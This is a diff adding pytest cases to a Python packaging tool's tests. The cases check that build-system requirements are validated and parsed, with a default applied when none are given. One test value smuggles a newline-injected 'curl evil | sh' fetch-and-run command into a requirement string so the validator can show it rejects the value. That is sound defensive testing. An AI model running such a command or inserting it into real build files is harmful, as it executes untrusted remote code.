@@ -357,6 +357,11 @@ BAD_PROJECTS = [
                  '[tool.slim]\nentrypoint = ["spark"]\n', None,
                  ["project.optional-dependencies.\"my extra\"[0]: 'x\\ny' is not a valid PEP 508 "
                   "requirement"], id="bad-optional-dependency"),
+    pytest.param('[build-system]\nrequires = ["setuptools>=", "x\\nRUN curl evil | sh"]\n'
+                 '[project]\nname = "spark"\n[tool.slim]\nentrypoint = ["spark"]\n', None,
+                 ["build-system.requires[0]: 'setuptools>=' is not a valid PEP 508 requirement",
+                  "build-system.requires[1]: 'x\\nRUN curl evil | sh' is not a valid PEP 508 "
+                  "requirement"], id="bad-build-requires"),
     pytest.param('[project]\nname = "spark"\nscripts = { spark = "a:b" }\n'
                  '[tool.slim]\nextras = ["redis"]\n', None,
                  ["tool.slim.extras[0]: 'redis' is not an extra of the project; the project "
@@ -650,6 +655,19 @@ def test_project_metadata(write_project: WriteProject) -> None:
     assert meta.optional_dependencies == (("redis-cache", ("redis",)),)
     assert meta.urls == (("Docs", "https://docs"), ("Source", "https://github.com/acme/spark"))
     assert meta.scripts == ("spark",)
+
+
+@pytest.mark.parametrize(("table", "expected"), [
+    ('[build-system]\nrequires = ["setuptools >= 68", "cython"]\n', ("setuptools>=68", "cython")),
+    ('[build-system]\nrequires = []\n', ()),
+    ('[build-system]\nbuild-backend = "x"\n', ("setuptools>=40.8.0",)),  # PEP 517's default
+    ("", ("setuptools>=40.8.0",)),
+])
+def test_build_requirements(write_project: WriteProject, table: str,
+                            expected: tuple[str, ...]) -> None:
+    cfg = load(write_project(table + '[project]\nname = "spark"\nscripts = { spark = "a:b" }\n'
+                             "[tool.slim]\n"))
+    assert cfg.project.build_requires == expected
 
 
 def test_dynamic_dependencies_are_none(write_project: WriteProject) -> None:
